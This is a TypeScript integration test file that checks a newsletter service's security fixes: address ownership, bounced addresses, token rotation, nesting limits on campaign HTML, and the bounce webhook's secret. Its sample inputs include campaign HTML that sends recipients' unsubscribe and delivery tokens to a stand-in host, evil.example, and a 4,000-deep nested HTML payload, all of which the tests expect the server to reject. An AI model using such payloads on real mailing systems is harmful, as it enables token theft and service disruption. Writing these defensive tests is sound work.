import { CAMPAIGN_HTML_DEPTH_MAX } from '@spaces/shared/limits'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { type Actor, createActor } from '../../../test/actors'
import { createSubscriberRow } from '../../../test/factories'
import { TestClient } from '../../../test/http-client'
import { type SmtpCatcher, startSmtpCatcher } from '../../../test/smtp-catcher'
import { startTestServer, type TestServer } from '../../../test/test-app'
import { nowSeconds } from '../../lib/time'

/**
 * The newsletter's safety rules: who an address belongs to, bounced addresses, tokens after an
 * address change, deep HTML, the webhook's secret, the token placeholders and test sends. Real HTTP
 * server, real database, real SMTP server on loopback.
 */
let smtp: SmtpCatcher
let server: TestServer
let admin: Actor

beforeAll(async () => {
  smtp = await startSmtpCatcher()
  server = await startTestServer({
    SMTP_URL: smtp.url,
    NEWSLETTER_WEBHOOK_SECRET: 'a-webhook-secret-for-tests',
    RATE_LIMIT_WRITES_PER_MINUTE: '100000',
    RATE_LIMIT_MAILS_PER_HOUR: '100000',
  })
  admin = await createActor(server, 'admin')
})
afterAll(async () => {
  await server.close()
  await smtp.close()
})

const mailsTo = (address: string) => smtp.mails.filter((m) => m.to.includes(address.toLowerCase()))
const pathOf = (url: string) => new URL(url).pathname
const confirmLinkIn = (text: string) => text.match(/https?:\/\/\S+\/newsletter\/confirm\/[\w-]+/)?.[0]
const listUnsubscribeOf = (mail: { parsed: { headers: { key: string; value: string }[] } }) =>
  mail.parsed.headers.find((h) => h.key === 'list-unsubscribe')?.value.slice(1, -1)
const subscribe = (actor: Actor, email: string) =>
  actor.client.send('POST', '/api/newsletter/subscribe', { email })
const rowOf = (email: string) =>
  server.app.db
    .selectFrom('newsletter_subscribers')
    .selectAll()
    .where('email_key', '=', email.toLowerCase())
    .executeTakeFirstOrThrow()
const anonymousPost = (path: string) =>
  new TestClient(server.baseUrl).request('POST', path, {
    headers: { 'content-type': 'application/x-www-form-urlencoded' },
    body: 'List-Unsubscribe=One-Click',
  })
/** As if the last confirmation to `email` went out an hour ago. */
const ageConfirmation = (email: string) =>
  server.app.db
    .updateTable('newsletter_subscribers')
    .set({ confirm_sent_at: nowSeconds() - 3600 })
    .where('email_key', '=', email.toLowerCase())
    .execute()
/** The newest mail to `address`, waiting a moment for it to arrive. */
async function lastMailTo(address: string, after: number) {
  for (let i = 0; i < 100; i += 1) {
    const mail = mailsTo(address).filter((m) => smtp.mails.indexOf(m) >= after)
    if (mail.length > 0) return mail.at(-1)!
    await new Promise((r) => setTimeout(r, 20))
  }
  throw new Error(`no mail to ${address}`)
}

describe('finding 3: an address belongs to an account only once confirmed', () => {
  it('the owner’s subscribe replaces another account’s pending row; the owner confirms it', async () => {
    const squatter = await createActor(server, 'user')
    const owner = await createActor(server, 'user')
    const email = 'victim-pending@example.test'
    const before = smtp.mails.length
    expect((await subscribe(squatter, email)).status).toBe(200)
    const squattersMail = await lastMailTo(email, before)
    // A minute on: one mail a minute per address, whoever asks, so the mailbox cannot be flooded.
    expect((await subscribe(owner, email)).status).toBe(429)
    await ageConfirmation(email)

    const res = await subscribe(owner, email)
    expect(res.status, res.text).toBe(200)
    expect(res.json.message).toBe(
      `Almost done: open the link we sent to ${email} to confirm your subscription.`,
    )
    expect(res.json.status).toEqual({ subscribed: false, email, pending: true, bounced: false })
    expect((await squatter.client.get('/api/newsletter/status')).json.pending).toBe(false)

    const ownersMail = await lastMailTo(email, smtp.mails.indexOf(squattersMail) + 1)
    // The squatter's link no longer works; the owner's does, and makes the address the owner's.
    const stale = confirmLinkIn(squattersMail.parsed.text ?? '') as string
    expect((await anonymousPost(pathOf(stale))).status).toBe(404)
    const fresh = confirmLinkIn(ownersMail.parsed.text ?? '') as string
    expect((await anonymousPost(pathOf(fresh))).status).toBe(200)
    expect((await owner.client.get('/api/newsletter/status')).json).toEqual({
      subscribed: true,
      email,
      pending: false,
      bounced: false,
    })
    expect((await squatter.client.get('/api/newsletter/status')).json.subscribed).toBe(false)
  })

  it('the owner can subscribe after unsubscribing with the link in the squatter’s confirmation mail', async () => {
    const squatter = await createActor(server, 'user')
    const owner = await createActor(server, 'user')
    const email = 'victim-unsubscribed@example.test'
    const before = smtp.mails.length
    expect((await subscribe(squatter, email)).status).toBe(200)
    const mail = await lastMailTo(email, before)
    expect((await anonymousPost(pathOf(listUnsubscribeOf(mail) as string))).status).toBe(200)
    expect((await rowOf(email)).status).toBe('unsubscribed')

    const res = await subscribe(owner, email)
    expect(res.status, res.text).toBe(200)
    expect(res.json.status).toMatchObject({ email, pending: true })
    expect((await rowOf(email)).user_id).toBe(owner.user!.id)
  })

  it('a confirmed address of another account: the same answer, and no link that would hand it over', async () => {
    const holder = await createActor(server, 'user')
    const other = await createActor(server, 'user')
    const email = 'Held@Example.test'
    await createSubscriberRow(server, { user_id: holder.user!.id, email })
    const held = await rowOf(email)

    const before = smtp.mails.length
    const res = await subscribe(other, 'held@example.test')
    expect(res.status, res.text).toBe(200)
    // Word for word what a free address gets: nothing says that someone else has this one.
    expect(res.json.message).toBe(
      'Almost done: open the link we sent to held@example.test to confirm your subscription.',
    )
    expect(res.json.status).toEqual({
      subscribed: false,
      email: 'held@example.test',
      pending: true,
      bounced: false,
    })
    expect(JSON.stringify(res.json)).not.toMatch(/another account|Held@Example/)

    // The address itself is told, with its own unsubscribe link, and nothing to confirm.
    const notice = await lastMailTo(email, before)
    expect(confirmLinkIn(notice.parsed.text ?? '')).toBeUndefined()
    expect(notice.parsed.text).toContain(`/newsletter/unsubscribe/${held.unsubscribe_token}`)
    expect(await rowOf(email)).toMatchObject({ user_id: holder.user!.id, status: 'active' })
    expect((await other.client.get('/api/newsletter/status')).json.subscribed).toBe(false)

    // Asking again at once is refused as for any address that was just mailed.
    const again = await subscribe(other, 'held@example.test')
    expect(again.status).toBe(429)
    expect(again.json.error).toMatch(/^A confirmation email was sent a moment ago\./)
  })
})

describe('finding 4: bounced addresses and other people’s rows', () => {
  it('never mails a bounced address from the widget, and keeps it bounced', async () => {
    const email = 'seeded-bounce@example.test'
    const seeded = await createSubscriberRow(server, { email })
    await server.app.db
      .updateTable('newsletter_subscribers')
      .set({ status: 'bounced' })
      .where('id', '=', seeded.id)
      .execute()
    const caller = await createActor(server, 'user')
    const before = smtp.mails.length
    const res = await subscribe(caller, email)
    expect(res.status).toBe(400)
    expect(res.json.error).toBe(
      `Mail to ${email} cannot be delivered (it was refused before), so the newsletter cannot go there. Use another address.`,
    )
    // Let any stray send land before counting.
    await new Promise((r) => setTimeout(r, 200))
    expect(smtp.mails.slice(before).filter((m) => m.to.includes(email))).toHaveLength(0)
    expect(await rowOf(email)).toMatchObject({ status: 'bounced', user_id: null })
  })

  it('keeps the caller’s own bounced address bounced when they move to another address', async () => {
    const caller = await createActor(server, 'user')
    const old = 'own-bounce@example.test'
    const seeded = await createSubscriberRow(server, { user_id: caller.user!.id, email: old })
    await server.app.db
      .updateTable('newsletter_subscribers')
      .set({ status: 'bounced' })
      .where('id', '=', seeded.id)
      .execute()
    expect((await caller.client.get('/api/newsletter/status')).json.bounced).toBe(true)
    const res = await subscribe(caller, 'own-new@example.test')
    expect(res.status, res.text).toBe(200)
    expect(res.json.status).toMatchObject({ email: 'own-new@example.test', pending: true })
    expect((await rowOf(old)).status).toBe('bounced')
    expect((await rowOf('own-new@example.test')).user_id).toBe(caller.user!.id)
  })

  it('another person’s pending row goes to whoever proves the address, not to the caller at once', async () => {
    const email = 'someone-waiting@example.test'
    const waiting = await createSubscriberRow(server, { email, pending: true })
    await ageConfirmation(email)
    const caller = await createActor(server, 'user')
    const before = smtp.mails.length
    expect((await subscribe(caller, email)).status).toBe(200)
    const row = await rowOf(email)
    // Nothing is the caller's before the mailbox confirms: still pending, the old links gone.
    expect(row.status).toBe('pending')
    expect(row.unsubscribe_token).not.toBe(waiting.unsubscribeToken)
    expect((await anonymousPost(`/newsletter/unsubscribe/${waiting.unsubscribeToken}`)).status).toBe(404)
    expect((await caller.client.get('/api/newsletter/status')).json.subscribed).toBe(false)
    const link = confirmLinkIn((await lastMailTo(email, before)).parsed.text ?? '') as string
    expect((await anonymousPost(pathOf(link))).status).toBe(200)
    expect((await caller.client.get('/api/newsletter/status')).json.subscribed).toBe(true)
  })
})

describe('finding 5: tokens rotate when the address changes', () => {
  it('the old mailbox’s links neither show nor end the new address', async () => {
    const caller = await createActor(server, 'user')
    const before = smtp.mails.length
    expect((await subscribe(caller, 'first-box@example.test')).status).toBe(200)
    const first = await lastMailTo('first-box@example.test', before)
    const oldUnsubscribe = pathOf(listUnsubscribeOf(first) as string)
    const oldConfirm = pathOf(confirmLinkIn(first.parsed.text ?? '') as string)

    expect((await subscribe(caller, 'second-box@example.test')).status).toBe(200)
    const visitor = new TestClient(server.baseUrl)
    const page = await visitor.request('GET', oldUnsubscribe)
    expect(page.status).toBe(404)
    expect(page.text).not.toContain('second-box@example.test')
    expect((await anonymousPost(oldUnsubscribe)).status).toBe(404)
    expect((await anonymousPost(oldConfirm)).status).toBe(404)
    expect((await rowOf('second-box@example.test')).status).toBe('pending')
  })
})

describe('finding 12: deeply nested campaign HTML', () => {
  it('answers 400 with a sentence, for 4,000 nested divs and just past the limit', async () => {
    for (const depth of [4000, CAMPAIGN_HTML_DEPTH_MAX + 1]) {
      const content = `${'<div>'.repeat(depth)}deep${'</div>'.repeat(depth)}`
      const res = await admin.client.send('POST', '/api/newsletter/campaigns', { subject: 'Deep', content })
      expect(res.status, `${depth}: ${res.text.slice(0, 200)}`).toBe(400)
      expect(res.json.error).toBe(
        `Content is nested too deeply: at most ${CAMPAIGN_HTML_DEPTH_MAX} elements inside one another.`,
      )
    }
    const atLimit = `${'<div>'.repeat(CAMPAIGN_HTML_DEPTH_MAX)}fine${'</div>'.repeat(CAMPAIGN_HTML_DEPTH_MAX)}`
    const ok = await admin.client.send('POST', '/api/newsletter/campaigns', {
      subject: 'Ok',
      content: atLimit,
    })
    expect(ok.status, ok.text.slice(0, 200)).toBe(201)
    // A long list whose items close themselves is long, not deep.
    const list = `<ul>${'<li>item'.repeat(CAMPAIGN_HTML_DEPTH_MAX * 3)}</ul>`
    const long = await admin.client.send('POST', '/api/newsletter/campaigns', {
      subject: 'List',
      content: list,
    })
    expect(long.status, long.text.slice(0, 200)).toBe(201)
  })
})

describe('finding 13: the webhook’s secret, token placeholders, test sends', () => {
  it('the bounce webhook checks its secret before it reads the body', async () => {
    const visitor = new TestClient(server.baseUrl)
    for (const body of [
      '{"nonsense": true}',
      'not json at all',
      '{"email":"x@example.test","type":"soft"}',
    ]) {
      for (const authorization of [undefined, 'Bearer wrong-secret-wrong-secret']) {
        const res = await visitor.request('POST', '/api/newsletter/bounces', {
          headers: { 'content-type': 'application/json', ...(authorization ? { authorization } : {}) },
          body,
        })
        expect(res.status, `${body} ${authorization}`).toBe(401)
        expect(res.json).toEqual({ error: 'A valid webhook secret is required (Authorization: Bearer …).' })
      }
    }
    const withSecret = await visitor.request('POST', '/api/newsletter/bounces', {
      headers: { 'content-type': 'application/json', authorization: 'Bearer a-webhook-secret-for-tests' },
      body: '{"nonsense": true}',
    })
    expect(withSecret.status).toBe(400)
  })

  it('refuses the per-recipient token placeholders anywhere in a campaign', async () => {
    for (const content of [
      '<p><img src="https://evil.example/p.gif?t=__UNSUBSCRIBE_TOKEN__"></p>',
      '<p><a href="https://evil.example/?d=__DELIVERY_TOKEN__">x</a></p>',
      '<p>__UNSUBSCRIBE&#95;TOKEN__ in words</p>',
    ]) {
      const res = await admin.client.send('POST', '/api/newsletter/campaigns', { subject: 'Leak', content })
      expect(res.status, content).toBe(400)
      expect(res.json.error).toBe(
        'Content and subject cannot contain __UNSUBSCRIBE_TOKEN__ or __DELIVERY_TOKEN__: the site adds each recipient’s links itself.',
      )
    }
  })

  it('sends a test only to a confirmed address', async () => {
    const other = await createActor(server, 'admin')
    const created = await other.client.send('POST', '/api/newsletter/campaigns', {
      subject: 'Test only confirmed',
      content: '<p>Hello</p>',
    })
    expect(created.status).toBe(201)
    const id = created.json.campaign.id as number
    const email = 'unconfirmed-admin@example.test'
    expect((await subscribe(other, email)).status).toBe(200)
    const before = smtp.mails.length
    const res = await other.client.send('POST', `/api/newsletter/campaigns/${id}/test`)
    expect(res.status).toBe(400)
    expect(res.json.error).toBe(
      `Confirm ${email} with the link we sent first: test emails go only to a confirmed address.`,
    )
    await new Promise((r) => setTimeout(r, 200))
    expect(smtp.mails.slice(before).filter((m) => m.parsed.subject?.startsWith('[Test]'))).toHaveLength(0)
  })
})
